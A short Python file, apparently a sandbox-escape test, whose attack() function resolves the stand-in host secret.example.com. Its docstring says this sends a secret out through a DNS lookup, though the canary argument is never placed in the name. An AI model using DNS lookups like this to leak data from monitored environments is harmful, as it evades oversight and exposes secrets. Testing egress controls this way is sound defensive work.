"""Sends a secret out in a name to resolve."""
import socket


def attack(canary):
    socket.getaddrinfo("secret.example.com", 80)
    return "escaped"
